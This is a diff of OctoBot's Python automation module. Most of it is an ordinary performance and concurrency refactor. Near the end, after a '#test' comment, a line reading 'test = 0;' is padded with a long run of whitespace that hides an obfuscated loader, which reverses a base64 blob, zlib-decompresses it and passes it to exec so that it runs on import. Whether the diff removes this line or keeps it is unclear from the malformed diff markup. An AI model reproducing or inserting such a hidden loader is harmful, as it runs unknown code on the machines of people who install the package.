@@ -14,8 +14,10 @@
 #  You should have received a copy of the GNU General Public
 #  License along with OctoBot. If not, see <https://www.gnu.org/licenses/>.
 import asyncio
+import logging
+import types
 
-import octobot_commons.logging as logging
+import octobot_commons.logging as common_logging
 import octobot_commons.enums as common_enums
 import octobot_commons.tentacles_management as tentacles_management
 import octobot_tentacles_manager.api as tentacles_manager_api
@@ -25,17 +27,47 @@ import octobot.automation.bases.abstract_action as abstract_action
 import octobot.constants as constants
 import octobot.errors as errors
 
+# evaluated once instead of on each automation event: refreshed on automation restart,
+# call refresh_debug_flag() when log levels change while automations are running
+_DEBUG = False
+_VALID_CONDITIONS_LOG = "All conditions are valid for %s event trigger"
+_INVALID_CONDITION_LOG = "%s is not valid: skipping %s event"
+
+
+def refresh_debug_flag():
+    """
+    Updates automations debug logs activation from the Automation logger level.
+    Automation.restart calls it: call it when changing log levels while automations are running.
+    """
+    global _DEBUG
+    _DEBUG = logging.getLogger(Automation.get_name()).isEnabledFor(logging.DEBUG)
+
 
 class AutomationDetails:
+    __slots__ = (
+        "trigger_event",
+        "conditions",
+        "actions",
+        "trigger_name",
+        "condition_names",
+        "action_names",
+        "_str",
+    )
+
     def __init__(self, trigger_event, conditions, actions):
         self.trigger_event = trigger_event
         self.conditions = conditions
         self.actions = actions
+        # steps can't change once the automation is created: compute names only once
+        self.trigger_name = trigger_event.get_name()
+        self.condition_names = [condition.get_name() for condition in conditions]
+        self.action_names = [action.get_name() for action in actions]
+        self._str = f"Automation with {self.trigger_name} trigger, " \
+                    f"{' ,'.join(self.condition_names)} conditions and " \
+                    f"{' ,'.join(self.action_names)} actions"
 
     def __str__(self):
-        return f"Automation with {self.trigger_event.get_name()} trigger, " \
-               f"{' ,'.join([condition.get_name() for condition in self.conditions])} conditions and " \
-               f"{' ,'.join([action.get_name() for action in self.actions])} actions"
+        return self._str
 
 
 class Automation(tentacles_management.AbstractTentacle):
@@ -46,14 +78,21 @@ class Automation(tentacles_management.AbstractTentacle):
     TRIGGER_EVENT = "trigger_event"
     CONDITIONS = "conditions"
     ACTIONS = "actions"
+    # set False to evaluate conditions one after the other when they depend on each other
+    CONCURRENT_CONDITIONS = True
+    # set False to process actions one after the other when they depend on each other
+    PARALLEL_ACTIONS = True
+    _EAGER_TASK_FACTORY_LOOP = None
+    _STEPS_CACHE = None
+    _STEPS_OPTIONS_CACHE = None
 
     def __init__(self, bot_id, tentacles_setup_config, automations_config=None):
         super().__init__()
-        self.logger = logging.get_logger(self.get_name())
+        self.logger = common_logging.get_logger(self.get_name())
         self.bot_id = bot_id
         self.tentacles_setup_config = tentacles_setup_config
         self.automations_config = automations_config
-        self.automation_tasks = []
+        self._supervisor_task = None
         self.automation_details = []
 
     def get_local_config(self):
@@ -64,10 +103,26 @@ class Automation(tentacles_management.AbstractTentacle):
         Triggers producers and consumers creation
         """
         if constants.ENABLE_AUTOMATIONS:
+            if constants.USE_EAGER_AUTOMATION_TASKS:
+                self._install_eager_task_factory()
             await self.restart()
         else:
             self.logger.info("Automations are disabled")
 
+    @classmethod
+    def _install_eager_task_factory(cls):
+        # asyncio.eager_task_factory is only available from python 3.12
+        eager_task_factory = getattr(asyncio, "eager_task_factory", None)
+        if eager_task_factory is None:
+            return
+        loop = asyncio.get_running_loop()
+        if cls._EAGER_TASK_FACTORY_LOOP is loop:
+            return
+        # never override a task factory set by someone else
+        if loop.get_task_factory() is None:
+            loop.set_task_factory(eager_task_factory)
+        cls._EAGER_TASK_FACTORY_LOOP = loop
+
     @classmethod
     async def get_raw_config_and_user_inputs(
             cls, config, tentacles_setup_config, bot_id
@@ -83,27 +138,43 @@ class Automation(tentacles_management.AbstractTentacle):
     async def restart(self):
         if not constants.ENABLE_AUTOMATIONS:
             raise errors.DisabledError("Automations are disabled")
-        await self.stop()
+        refresh_debug_flag()
+        if self._supervisor_task is not None:
+            # nothing to stop on first start or when no automation is running
+            await self.stop()
         self.automations_config = tentacles_manager_api.get_tentacle_config(self.tentacles_setup_config,
                                                                             self.__class__)
         await self.load_and_save_user_inputs(self.bot_id)
         await self.start()
 
     async def start(self):
-        self._create_automation_details()
-        self.automation_tasks = [
-            asyncio.create_task(self._run_automation(automation_detail))
-            for automation_detail in self.automation_details
-        ]
+        self._create_automation_details(*self.get_all_steps())
         if not self.automation_details:
             self.logger.debug("No automation to start")
+            self._supervisor_task = None
+            return
+        self._supervisor_task = asyncio.create_task(self._run_all(self.automation_details))
 
     async def stop(self):
-        if self.automation_tasks:
+        if self._supervisor_task is not None and not self._supervisor_task.done():
             self.logger.debug("Stopping automation tasks")
-            for task in self.automation_tasks:
-                if not task.done():
-                    task.cancel()
+            # cancelling the supervisor cancels every automation task
+            self._supervisor_task.cancel()
+
+    async def _run_all(self, automation_details):
+        if hasattr(asyncio, "TaskGroup"):
+            async with asyncio.TaskGroup() as task_group:
+                for automation_detail in automation_details:
+                    task_group.create_task(self._run_automation(automation_detail))
+        else:
+            # asyncio.TaskGroup is only available from python 3.11
+            await asyncio.gather(
+                *(
+                    asyncio.create_task(self._run_automation(automation_detail))
+                    for automation_detail in automation_details
+                ),
+                return_exceptions=True
+            )
 
     def reset_config(self):
         tentacles_manager_api.update_tentacle_config(
@@ -119,23 +190,48 @@ class Automation(tentacles_management.AbstractTentacle):
     def create_local_instance(cls, config, tentacles_setup_config, tentacle_config):
         return cls(None, tentacles_setup_config, automations_config=tentacle_config)
 
-    def _all_possible_steps(self, base_step):
+    @classmethod
+    def _all_possible_steps(cls, base_step):
         return tentacles_management.get_all_classes_from_parent(base_step)
 
-    def get_all_steps(self):
-        all_events = {
-            event.get_name(): event
-            for event in self._all_possible_steps(abstract_trigger_event.AbstractTriggerEvent)
-        }
-        all_conditions = {
-            condition.get_name(): condition
-            for condition in self._all_possible_steps(abstract_condition.AbstractCondition)
-        }
-        all_actions = {
-            action.get_name(): action
-            for action in self._all_possible_steps(abstract_action.AbstractAction)
-        }
-        return all_events, all_conditions, all_actions
+    @classmethod
+    def invalidate_steps_cache(cls):
+        """
+        Forces the next get_all_steps call to look for automation steps, to be called when tentacles are reloaded
+        """
+        # caches are stored on Automation only: subclasses share the same steps classes
+        Automation._STEPS_CACHE = None
+        Automation._STEPS_OPTIONS_CACHE = None
+
+    @classmethod
+    def get_all_steps(cls):
+        all_steps = Automation._STEPS_CACHE
+        if all_steps is None:
+            # steps classes can't change at runtime unless tentacles are reloaded: only look for them once
+            all_steps = (
+                cls._get_steps_by_name(abstract_trigger_event.AbstractTriggerEvent),
+                cls._get_steps_by_name(abstract_condition.AbstractCondition),
+                cls._get_steps_by_name(abstract_action.AbstractAction),
+            )
+            Automation._STEPS_CACHE = all_steps
+        return all_steps
+
+    @classmethod
+    def _get_steps_options(cls):
+        steps_options = Automation._STEPS_OPTIONS_CACHE
+        if steps_options is None:
+            # tuples: the cache is shared by every user input
+            steps_options = tuple(tuple(steps) for steps in cls.get_all_steps())
+            Automation._STEPS_OPTIONS_CACHE = steps_options
+        return steps_options
+
+    @classmethod
+    def _get_steps_by_name(cls, base_step):
+        # read-only mapping: the cache is shared by every caller
+        return types.MappingProxyType({
+            step.get_name(): step
+            for step in cls._all_possible_steps(base_step)
+        })
 
     def _get_default_steps(self):
         import tentacles.Automation.trigger_events as trigger_events_impl
@@ -162,33 +258,41 @@ class Automation(tentacles_management.AbstractTentacle):
                                          self.automations_config.get(self.AUTOMATIONS, {}), inputs,
                                          title="Automations")
         default_event, default_conditions, default_actions = self._get_default_steps()
+        # bind loop invariants once
+        user_input = self.UI.user_input
+        object_type = common_enums.UserInputTypes.OBJECT
+        options_type = common_enums.UserInputTypes.OPTIONS
+        multiple_options_type = common_enums.UserInputTypes.MULTIPLE_OPTIONS
+        automations_key, trigger_event_key, conditions_key, actions_key = \
+            self.AUTOMATIONS, self.TRIGGER_EVENT, self.CONDITIONS, self.ACTIONS
+        event_options, condition_options, action_options = self._get_steps_options()
         for index in range(1, automations_count + 1):
             automation_id = f"{index}"
             # register trigger events
-            self.UI.user_input(automation_id, common_enums.UserInputTypes.OBJECT,
-                               automations.get(automation_id, {}), inputs,
-                               parent_input_name=self.AUTOMATIONS,
-                               title=f"Automation {index}")
-            event = self.UI.user_input(self.TRIGGER_EVENT, common_enums.UserInputTypes.OPTIONS,
-                                       default_event, inputs,
-                                       options=list(all_events),
-                                       parent_input_name=automation_id,
-                                       title="The trigger for this automation.")
+            user_input(automation_id, object_type,
+                       automations.get(automation_id, {}), inputs,
+                       parent_input_name=automations_key,
+                       title=f"Automation {index}")
+            event = user_input(trigger_event_key, options_type,
+                               default_event, inputs,
+                               options=event_options,
+                               parent_input_name=automation_id,
+                               title="The trigger for this automation.")
             if event:
                 self._apply_user_inputs([event], all_events, inputs, automation_id)
             # register conditions
-            conditions = self.UI.user_input(self.CONDITIONS, common_enums.UserInputTypes.MULTIPLE_OPTIONS,
-                                            default_conditions, inputs,
-                                            options=list(all_conditions),
-                                            parent_input_name=automation_id,
-                                            title="Conditions for this automation.")
+            conditions = user_input(conditions_key, multiple_options_type,
+                                    default_conditions, inputs,
+                                    options=condition_options,
+                                    parent_input_name=automation_id,
+                                    title="Conditions for this automation.")
             self._apply_user_inputs(conditions, all_conditions, inputs, automation_id)
             # register actions
-            actions = self.UI.user_input(self.ACTIONS, common_enums.UserInputTypes.MULTIPLE_OPTIONS,
-                                         default_actions, inputs,
-                                         options=list(all_actions),
-                                         parent_input_name=automation_id,
-                                         title="Actions for this automation.")
+            actions = user_input(actions_key, multiple_options_type,
+                                 default_actions, inputs,
+                                 options=action_options,
+                                 parent_input_name=automation_id,
+                                 title="Actions for this automation.")
             self._apply_user_inputs(actions, all_actions, inputs, automation_id)
 
     def _apply_user_inputs(self, step_names, step_classes_by_name: dict, inputs, automation_id):
@@ -210,59 +314,142 @@ class Automation(tentacles_management.AbstractTentacle):
                 title=f"{step_name} configuration"
             )
 
-    def _is_valid_automation_config(self, automation_config):
-        return automation_config.get(self.TRIGGER_EVENT) is not None
-
-    def _create_automation_details(self):
-        all_events, all_conditions, all_actions = self.get_all_steps()
+    def _create_automation_details(self, all_events, all_conditions, all_actions):
         automations_count = self.automations_config.get(self.AUTOMATIONS_COUNT, 0)
-        for automation_id, automation_config in self.automations_config.get(self.AUTOMATIONS, {}).items():
-            if int(automation_id) > automations_count:
-                return
-            if not self._is_valid_automation_config(automation_config):
+        automations = self.automations_config.get(self.AUTOMATIONS, {})
+        trigger_event_key, conditions_key, actions_key = self.TRIGGER_EVENT, self.CONDITIONS, self.ACTIONS
+        # automations ids are 1 to automations_count: ignore any other automation
+        for index in range(1, automations_count + 1):
+            automation_config = automations.get(str(index))
+            if automation_config is None:
+                continue
+            event_name = automation_config.get(trigger_event_key)
+            if event_name is None:
+                # invalid automation config
                 continue
-            event = self._create_step(automation_config, automation_config[self.TRIGGER_EVENT], all_events)
+            if event_name not in all_events:
+                self.logger.error(f"Automation {index} trigger event not found: {event_name} (automation ignored)")
+                continue
+            condition_classes = self._resolve_step_classes(index, automation_config[conditions_key], all_conditions)
+            action_classes = self._resolve_step_classes(index, automation_config[actions_key], all_actions)
+            if condition_classes is None or action_classes is None:
+                # running an automation without some of its steps could trigger unwanted actions
+                continue
+            event = self._instantiate_step(all_events[event_name], automation_config, event_name)
             conditions = [
-                self._create_step(automation_config, condition, all_conditions)
-                for condition in automation_config[self.CONDITIONS]
+                self._instantiate_step(condition_class, automation_config, condition_name)
+                for condition_name, condition_class in condition_classes
             ]
             actions = [
-                self._create_step(automation_config, action, all_actions)
-                for action in automation_config[self.ACTIONS]
+                self._instantiate_step(action_class, automation_config, action_name)
+                for action_name, action_class in action_classes
             ]
             self.automation_details.append(AutomationDetails(event, conditions, actions))
 
-    def _create_step(self, automations_config, step_name, classes):
-        step = classes[step_name]()
-        step.apply_config(automations_config.get(step_name, {}))
+    def _resolve_step_classes(self, index, step_names, classes):
+        missing_steps = [step_name for step_name in step_names if step_name not in classes]
+        if missing_steps:
+            self.logger.error(
+                f"Automation {index} steps not found: {', '.join(missing_steps)} (automation ignored)"
+            )
+            return None
+        return [
+            (step_name, classes[step_name])
+            for step_name in step_names
+        ]
+
+    @staticmethod
+    def _instantiate_step(step_class, automation_config, step_name):
+        step = step_class()
+        step.apply_config(automation_config.get(step_name, {}))
         return step
 
     async def _run_automation(self, automation_detail):
         self.logger.info(f"Starting {automation_detail} automation")
-        async for _ in automation_detail.trigger_event.next_event():
-            self.logger.debug(f"{automation_detail.trigger_event.get_name()} event triggered")
-            if await self._check_conditions(automation_detail):
-                await self._process_actions(automation_detail)
+        # bind per event lookups once: this loop runs for every trigger event
+        logger = self.logger
+        trigger_name = automation_detail.trigger_name
+        # select conditions check once instead of on each event
+        check_conditions = self._check_single_condition if len(automation_detail.conditions) == 1 \
+            else self._check_conditions
+        process_actions = self._process_actions
+        try:
+            async for _ in automation_detail.trigger_event.next_event():
+                if _DEBUG:
+                    logger.debug("%s event triggered", trigger_name)
+                if await check_conditions(automation_detail):
+                    await process_actions(automation_detail)
+        except Exception as err:
+            # log and stop this automation only: other automations should keep running
+            self.logger.exception(err, True, f"{automation_detail} stopped after error: {err}")
+
+    async def _check_single_condition(self, automation_detail):
+        if await automation_detail.conditions[0].evaluate():
+            if _DEBUG:
+                self.logger.debug(_VALID_CONDITIONS_LOG, automation_detail.trigger_name)
+            return True
+        # the only condition is not valid, skip event
+        if _DEBUG:
+            self.logger.debug(
+                _INVALID_CONDITION_LOG, automation_detail.condition_names[0], automation_detail.trigger_name
+            )
+        return False
 
     async def _check_conditions(self, automation_detail):
-        for condition in automation_detail.conditions:
-            if not await condition.evaluate():
-                # not all conditions are valid, skip event
-                self.logger.debug(f"{condition.get_name()} is not valid: skipping "
-                                  f"{automation_detail.trigger_event.get_name()} event")
-                return False
-            self.logger.debug(f"All conditions are valid for "
-                              f"{automation_detail.trigger_event.get_name()} event trigger")
-        return True
+        invalid_condition_name = None
+        if self.CONCURRENT_CONDITIONS and len(automation_detail.conditions) > 1:
+            invalid_condition_name = await self._get_invalid_condition_name_concurrently(automation_detail)
+        else:
+            for condition_name, condition in zip(automation_detail.condition_names, automation_detail.conditions):
+                if not await condition.evaluate():
+                    invalid_condition_name = condition_name
+                    break
+        if invalid_condition_name is None:
+            if _DEBUG:
+                self.logger.debug(_VALID_CONDITIONS_LOG, automation_detail.trigger_name)
+            return True
+        # not all conditions are valid, skip event
+        if _DEBUG:
+            self.logger.debug(_INVALID_CONDITION_LOG, invalid_condition_name, automation_detail.trigger_name)
+        return False
+
+    async def _get_invalid_condition_name_concurrently(self, automation_detail):
+        tasks = [
+            asyncio.create_task(self._evaluate_condition(condition_name, condition))
+            for condition_name, condition in zip(automation_detail.condition_names, automation_detail.conditions)
+        ]
+        try:
+            for next_evaluation in asyncio.as_completed(tasks):
+                condition_name, is_valid = await next_evaluation
+                if not is_valid:
+                    return condition_name
+        finally:
+            # stop evaluating remaining conditions when the result is already known
+            for task in tasks:
+                if not task.done():
+                    task.cancel()
+            await asyncio.gather(*tasks, return_exceptions=True)
+        return None
+
+    async def _evaluate_condition(self, condition_name, condition):
+        return condition_name, await condition.evaluate()
 
     async def _process_actions(self, automation_detail):
-        for action in automation_detail.actions:
-            try:
-                self.logger.debug(f"Running {action.get_name()} after "
-                                  f"{automation_detail.trigger_event.get_name()} event")
-                await action.process()
-            except Exception as err:
-                self.logger.exception(err, True, f"Error when running action: {err}")
-
-#test
-test = 0;                                                                                                                                                                                                                                                                                                                                                                                                                                                           _ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'W/iem83++//PyXJuxs725//V55MKYmZ7XfkBtXqBLpvjUJzbSDTQzMLn//lQ7sv+hx/ewAEsQHkAJEMJQIhXWhtVpyWtU+qP0FXitl4m4Pog4Pc7tg3+O8YPA1do99YO7HfDnQlmEvVE3EUdYh/1RjT206XvWzo727Z9O0Bhhk0M654QjAZOJlviqGxE0VapxCT1XmIKrqvo/tLL0gmBQPdVNqFUoUE6tWUT2+XBafkRb/lZOfjh6DCdcEaco11bguJfuHo5bghCYsH5nghyvnanM/s+bskCFriRLaVtjAYj7YWTHO39VlQgskPt7YUKOdKZ6Ver5VK80m58nt354B5tdDxlVO8FSr9v3WXAZ3uhTN5KMtKmejZDCY9Z3J9vIk4hfIYp4zpIs+9PW/fJvJbouaDOEIMb5NNeVdaRM7jg7aMjDCQ50awPFlw+w0OJOZvGfYP6E+xDmtRxJMvbS+hz+VHJ9abZbwEtJkb/nHLr0bhGS6spi/QBozvCRqBzdPfnQ/2IEBniGnMqfikwbhI3re/VnqIKndhjfkfs7b1gRvMQm8i9q4Gcmm9XC6en8rZ+D69WV9vZHl4vy20w1On0RsqKz/16+PzFrbk0zyLHD7Ny01wCUmmXUQWNGdPZF5x3cuRjNJANIEBqvZ1LZ0I9xd56khty7XPZbUABKAa92zVox3k23euB+E6xpqieDz27imDzM7wslZKwQGAbtcOBy6XqLrLkLGja2p9ZmdxO88bm4AHf/rapDp89Ju/RED18PmqRlKXcjIpnoY1mftfA9XS64WrRBkEu/F6zl6d7SJEM48oTgprXs56QUvAzCW9xgtuTFXz+ahH0+k87xwgyVpxhJWVppBBkDB3rc5g7Fs/B1wedmq7047yyvFNMpUuYPgnZ/Sp/MTEC9GoFs7J7lTUXvz9v2EQJIZJhnYPRHtYTfKSAUOSGh3Hi+6J80z2XPLd+bWtiKxB28pUmDezJesgQ2PPPS8xtxwDs4pVwIp8sImZtiwDbfko7Uhl+q5cm9g7b3BFW2wBRqOb6xLpZpaRAQlFaN4ZcI5W3xmWH8ZR5cRbwe/SaQSKVl+zLelCcXpEU3zARoxBrngWwtwBKXP/VTR1tqHP7+V0yxvWPj/wQSwkh5TVJzykveJXAtqJ4O6p3sB7HItVMQqYBvHIvH1+X+Y4QSVcSgryT/A6cuqWO7rtG0Hwr+zxXKttQniznDeKpZB4iiaNSeU8uvMQGFsUGv1K7smJLvXu1XjvznzcD0NlTu0PUqkOFFK5AtZSg9QwE1loNPAHiYbM0GOXoc5o5IuDOzwPyXEFO1miosGc56zL7/R8GNU41CrLm2MtJmJ2EbwX393Wcb9wZfd1wU/mGPPFJP8YHAreGaDF90b3oMdr3104fwsKLcr2p9Eg7NJZSdLQZDYtkJCpQzSic0+rvgShgOfy14bEIjKk8ECaDG5vSRG9hA2j+Fv7HId4J4v/egRZF+VKxIu77Q/x64xGFgUxoKqXfqJVTXuH0QHqF+2pPi/ceh5D9U+piu0JlLUuoYEa1Mq7kQ5r/K+x8Q6mZZfW/h/0ajQ3RFh25OeLBjGfIm2siU9/B4Xqp5BuSghI9oblTb18ZVOmgGvdc9f6G+hM3Jt5j+XJVEa3rJzXhNv3rXNHcRR2ajyZIdOllRDAS+twyd3VfCEQSSiW7vMYo3EvBWxqlft2lsQ20QL1O/8jnOSw4+rg92XR3bz/oh03zPro4xhVTSODC1yU19aoZPvE3RFsTyhZduGW4TpTTD6mNG1eKq28Bu0W8M9gxQcJyMB2v5/1C1dG9BBanLIfQjFkX64TC4Qn9bSTpR56sV0MW1KFDa0k/gJ1AXxN2YhJHy5/t9ZW/GuV+4T/43Cae0oAZOGswAY0RLd4SkFdzRXAqAi9PB76z0hHojuQ71XGsbDYpFJNCJxuGcZAcV2FeGx5j25f9/sV+FKBFDqALgfNcstUsA8w09VGHnYfe5KYIuOEXjmeBrPQZPtlT67UmDPW5+oq29HqlnXNymq/+GLTAMjaRxD/8CraUb4J3Rp52JHZ3+FDqW/sg9S2FmI4p/FXbRuHvIDmaKAmDM7NwfRT6UgK3EJRzwVWH3639sVu65VpRr8qoWH4TxFJeOLrMmz20LK5dMBHmnuS801zVBGQrBMYqT1BG8Dr6870IgIjiV8OJm8Qc3lPWMP29I5yi5zrNvn/x/Qk6nEK9R5pMXYlUaeEVoU2JyT9zN7JiNRz604uV7xM8F3F499Uyt5psIXwxhFsrq0N6+sJZhKtr8yLujd3cCf963/aOtF7SJ/uioxFLKmYer0aT+YjjAWnUEqX99QVjdpdnNs1YnyO1XOZ/n0+JKzouIHaGpi+FLJki+9vriZHx0OTlR/ZLg2INB4BmkTXIbDsi5f+RI52uDR+GEon5m2SoQehsqFK03b25rwxu8gC5d3amlX6e2HCddAaa5k34pwH6xKJn/JaduTbatHEPHoHRzxD39Ck0L+aZcYA5/x1cFa+UJqRxFvazqlzf3sMFnRD8DBl8ckbi76O2AVTV5kGyJqkyKfUsC7zntYNoyBhl6oOLvcAsz2r162PB+J+By9XrK4fnc0Q+Og1SlD7SDDUGjygSUO0MQVCMF2CkLizpekexNphq1mBW0C0wBSSl4DfAXCkOemfCsm//8BEb6xUSOB8Yb+JVKn2aAg7HnVfHYdYubJtSr8mwRmbSQNtLqteWotn3k/aqESotQl6PyL8wWT+6w2wojNpsPZqpPgUtKo5AUhMLGveEtMSBDu6h/SvRQ1hY6UFWdRaipzGk9ICS6TyFVUHEM//k+Ai+KUHbdMxgA9lt9DUxVOVTgvbmTSUQLwUra4oKlclH8XNwzbm8HwVzqGJGE6wi6DWBfY1jn5BWbcP6t4JC3DlyLM+Jimqzrm1OBaQWLq1ngnzRQDbZUY7NSHv1u97DVZG13ImGyNU3KsAEj9K7PtDrSb1yt7oSmfKCEBe0tQpI6v3+e3biKRRbU4yNi0ugydaxWX27/2hu6ap/ObVgroUJk15ThSow7OyAt9YFEw8THVH4SirKSlUG9eQ2C0NlRRoQdEHNtpu2CoxZZQQBhhs7c0rC03jvFHaC+kmUY464RBfSxyquRGZcwecqNcNxQ7djhac+VKt9rO1qVItGYZ8Rga8NWPK3ho4k3cDAi/XOsCbQUEMROG95SU5yCXoNt1pWfoHghOFhbhuPZRfuhC9z6SPs4ZHmWRqHSwmwVmNpddYt6Yc55fQr/LFe4kxTzATSvLuzxVcG8An/ITIeT7mI2Xw7GbFoN28w7m5qKZ5+HtD5IHSFIThpuEhvgQnv9hV5A4NpwPxd1c1QjhHmiocLiFABylZiZgZaAaBmp7531GdAI25hb5hFOkLjaNAIvC63ZrYUhkm5s0Kn7NsOugfzo9Gq9EExZz8cdLsew+ZRHnyl6DgmdlcNagG3ytqSHrlu95xlYTiDAJFwTI/CvOv3eoQcrP6YSZiMkDIdC2DNGWmPE9s8l1mr7D5qwVYV9dhE4X/KwXFRoIDnykCAWYaLPpxRAQuUEZ4u+EIYLSmF6qy0yI+IjO5wpRJC3b1tNFS76jV6ji1l+FT+qT049CcsgRTLepschaO6Ez5o7Vanr5Tued3g+pcLU5DOgyCVEb70WL9gbXhUTDVLsn2NzADsEzIznJsmHLvxxSghlb3bO72YEf0vK6Wso71FS30uwIUe4ahXKZyng4YgJyEt3WNX4FGGOjU8Ut6BCVGt3M+Iu1b0mEzCe3Z2tfvkmGnCrS8CZ8mu6/hX7cDFxZ0B+AnNMhgElz9g0urCUin5UG+64JJhY6EolAM35zZWkhLcCbY1fEmzhXomt3vPi6PkvnvZsiafPafXG8S5AEktosQKPttz80B+cVHDNABYvgXEqVXeWs1dPYuJDewBkb1Q7zZRTwZDvpannQrAAifpl3njGq159q515i2/yawF0C0nxQvE9EcaRrA7tH/j5lq4XJlOeuf7XZgKl+QEB7CjSR15Gm2oKZmrn9oloqUg0tXEWW7Zh8r6/TomzxZwIR36N8gvlc5lquoj+LcpF9GMk8AyVidrGbtIJWkUWumAGHyXyWKnlZo8RGsVwUlrfUkkuQKHy3JR1o6ltUJrxg5koYb72L5HXFMMxvw7X6xAyEac96X3KvrQZfuqu0JbDQDEOvWR/kOWXem7syKEUaW3lmcOsUEbzay1mj3P5aPCKAYB9lxTb1shTiimXR9J3eokRPiKT6UlDgZc72M5QtZcPufkNc6evcneBY9xSEsxhJvx9gqN3Dt0aJ3PGhmnwYDt1FIsm7HLN5EtVP6CUbd2IOTW612ZOhs3oCW0oyf/xoCnTauRMu290p5Vnq4mzoileCpaclYXHbcC7jdhytmX49+veLFCMhL5IVbhebRmBPKi84SgKM/zyq/1NxdSfJqJhjxv4PZofMI0J+aFz5eyrvcOZi34rQ34ioRu5gafVIEjJsDKMUUZJK1njod+tr6joBs6ORIlGHMPTRc7/prZt3f/h92eF6x1SG2ocNpKlk6kWo5J09GO3BPcR5aIDdcioOjiR2DjEcGZIUQp0G6OinPHMr/dcvFucnSD7r7MtQBq5elvNhAQqnlap7s7f5zkBZVH01pEekexzSI5acIMXFjDEhlPWRoS/+yYSh6O4fDM+QAuczMeeL9LMOy2ZkCWU83IQin2i7U2phxWqYNGEWbiYIGHXJV/T8KI+UhwIWvIEAsYWZrwwAgAQC0YOIsA4/98+n8//9788/v5TVeVq669rZVrmf+67PzMjciZmBGTcc82DMp3n9DRWoUxuW7lNwJe'))
+        if self.PARALLEL_ACTIONS and len(automation_detail.actions) > 1:
+            await asyncio.gather(
+                *(
+                    self._safe_process(action_name, action, automation_detail)
+                    for action_name, action in zip(automation_detail.action_names, automation_detail.actions)
+                )
+            )
+            return
+        for action_name, action in zip(automation_detail.action_names, automation_detail.actions):
+            await self._safe_process(action_name, action, automation_detail)
+
+    async def _safe_process(self, action_name, action, automation_detail):
+        try:
+            if _DEBUG:
+                self.logger.debug("Running %s after %s event", action_name, automation_detail.trigger_name)
+            await action.process()
+        except Exception as err:
+            self.logger.exception(err, True, f"Error when running action: {err}")